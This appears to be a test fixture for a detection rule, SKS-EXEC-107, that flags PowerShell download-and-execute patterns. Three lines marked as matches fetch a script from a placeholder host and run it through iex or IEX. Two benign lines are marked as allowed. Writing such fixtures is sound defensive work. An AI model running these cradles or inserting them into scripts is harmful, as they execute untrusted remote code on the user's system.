# ruleid: SKS-EXEC-107
iex (iwr -UseBasicParsing https://example.invalid/i.ps1)
# ruleid: SKS-EXEC-107
IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/s.ps1')
# ruleid: SKS-EXEC-107
irm https://example.invalid/x.ps1 | iex
# ok: SKS-EXEC-107
Invoke-WebRequest -Uri https://example.com/tool.zip -OutFile tool.zip
# ok: SKS-EXEC-107
Invoke-Expression "Get-Date"
